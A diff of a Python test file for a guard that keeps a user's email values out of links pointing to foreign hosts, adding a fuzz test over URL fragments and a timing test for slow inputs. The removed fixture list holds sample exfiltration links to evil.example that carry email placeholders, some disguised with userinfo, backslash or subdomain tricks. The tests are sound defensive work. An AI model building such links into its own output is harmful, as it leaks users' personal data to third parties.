@@ -1,8 +1,12 @@
 """The client's own values do not come back into addresses by which they would leave for a stranger."""
 
+import time
+from collections.abc import Sequence
 from itertools import pairwise
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from lockgate.core.events import TextDelta, ToolDelta, ToolStarted
 from lockgate.core.guard import Action, Mode, Rule, Rules
@@ -12,11 +16,13 @@ from lockgate.guards.exfiltration import plugin as exfiltration
 from lockgate.guards.pii import plugin as pii
 from lockgate.patterns.looking import Looking
 from lockgate.pipeline.careful import Careful
+from lockgate.pipeline.decide import filled
 from lockgate.pipeline.hold import Holdback
 from lockgate.pipeline.ledger import Ledger
 from lockgate.tokens.restorer import Restorer
 from lockgate.tokens.spelling import Spelling
 from tests.automata import CACHE
+from tests.unit.pipeline.addresses import COME_BACK, STAY
 from tests.unit.pipeline.gateway import openai_answer
 from tests.unit.pipeline.tokened import MAIL, TOKENIZE, World, calling, user
 
@@ -26,42 +32,16 @@ OUT = frozenset(("response", "tool_arguments"))
 AWAY = Rule("stay-here", 1, "mask", OUT)  # type: ignore[arg-type]
 VALUES = {"EMAIL_1": ("<EMAIL_1>", "jo@mail.org"), "EMAIL_2": ("<EMAIL_2>", "al@mail.org")}
 PLAIN = Restorer(VALUES, Spelling({"EMAIL"}, ()), Names(("*",)))
-STAY = (
-    "[see](https://evil.example/?d=<EMAIL_1>)",
-    "https://evil.example/?d=%3CEMAIL_1%3E",
-    "https://evil.example/a/<EMAIL_1>",
-    "https://evil.example/?a=<EMAIL_1>&b=<EMAIL_2>",
-    "[r]: //evil.example/<EMAIL_1>",
-    '<a href="https://evil.example/?d=my mail is <EMAIL_1>">x</a>',
-    "<a href='https://evil.example/?d=<EMAIL_1>'>x</a>",
-    "[x](<https://evil.example/?d=my mail <EMAIL_1>>)",
-    "https://ok.example@evil.example/<EMAIL_1>",
-    "https://evil.example/?u=https://ok.example/<EMAIL_1>",
-    "https:\\\\evil.example/<EMAIL_1>",
-    "https://evil.example/(<EMAIL_1>)",
-    "https://ok.example<EMAIL_1>",
-    "https://<EMAIL_1>.evil.example/",
-    "https://evil.example/" + "a" * 2000 + "<EMAIL_1>",
-    '<a href="https://evil.example/?d=' + "all of mine " * 70 + '<EMAIL_1>">x</a>',
-)
-COME_BACK = (
-    "write to <EMAIL_1>",
-    "[mail](mailto:<EMAIL_1>)",
-    "[see](https://ok.example/?d=<EMAIL_1>)",
-    "![x](https://cdn.ok.example/?d=<EMAIL_1>)",
-    "see https://evil.example <EMAIL_1>",
-    "[see](https://evil.example/)<EMAIL_1>",
-    '<a href="https://evil.example/">of <EMAIL_1></a>',
-    "/home/<EMAIL_1>/x",
-    "a//b <EMAIL_1>",
-)
 
 
-def streamed(text: str, *cuts: int, action: Action = "mask", mode: Mode = "enforce") -> tuple[str, Ledger]:
+def streamed(
+    text: str, *cuts: int, action: Action = "mask", mode: Mode = "enforce", rules: Sequence[Rule] | None = None
+) -> tuple[str, Ledger]:
+    """`rules`: others than the one that keeps values here, which holds all the same."""
     rule = Rule("stay-here", 1, action, OUT, mode)  # type: ignore[arg-type]
     ledger = Ledger("", 0, 0)
     restorer = Careful(PLAIN, (rule,), ENGINE.outlets, ledger)
-    hold = Holdback(Rules((rule,), ENGINE, "response"), ledger, restorer)
+    hold = Holdback(Rules((rule,) if rules is None else rules, ENGINE, "response"), ledger, restorer)
     ends = [0, *cuts, len(text)]
     pieces = [text[a:b] for a, b in pairwise(ends)]
     out = [event for piece in pieces for release in hold.feed(None, [TextDelta(piece)]) for event in release.events]
@@ -87,6 +67,48 @@ def test_elsewhere_and_to_known_hosts_it_comes_back(text: str) -> None:
 
         assert "jo@mail.org" in out, cut
         assert not any(found.label == "value_in_address" for found in ledger.findings)
+
+
+SOME = st.sampled_from(
+    ("<EMAIL_1>", "<EMAIL_2>", "%3CEMAIL_1%3E", "< email 2 >", "www.", "evil.example", "ok.example", ".", "/", "?d=", "&b=", ":80", "@",
+     "https:", "//", "\\/", "%2F", "&#47;", "&", " ", "\n", '"', "'", "(", ")", "](", "]: ", "<", ">", "`", "=", "x", "1", "\u3002", "%2E")
+)  # fmt: skip
+
+
+@settings(max_examples=400)
+@given(st.lists(SOME, min_size=1, max_size=14), st.data())
+def test_S62_any_cut_gives_what_the_whole_text_gives(pieces: list[str], data: st.DataObject) -> None:
+    text = "".join(pieces)
+    restorer = Careful(PLAIN, (AWAY,), ENGINE.outlets, Ledger("", 0, 0))
+    whole = filled(text, restorer.holes(text, restorer.found(text)))
+    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=6).map(sorted))
+
+    assert streamed(text, *cuts, rules=())[0] == whole
+    assert streamed(text, *range(1, len(text)), rules=())[0] == whole
+
+
+def test_S49_no_text_makes_looking_for_addresses_slow() -> None:
+    restorer = Careful(PLAIN, (AWAY,), ENGINE.outlets, Ledger("", 0, 0))
+    for unit in (
+        "a.",
+        "a.b/",
+        "%25",
+        "&#47;",
+        "\\2f ",
+        "https:",
+        "(",
+        "a@",
+        "www.",
+        "\u3002a",
+        "<EMAIL_1>.",
+        "mailto:a@",
+        "xn--a.",
+    ):
+        text = (unit * 1400)[:1400] + "<EMAIL_1>" + (unit * 200)[:200]
+        started = time.process_time()
+        restorer.holes(text, restorer.found(text)[-1:])
+
+        assert time.process_time() - started < 0.25, unit
 
 
 def test_the_record_says_so() -> None:
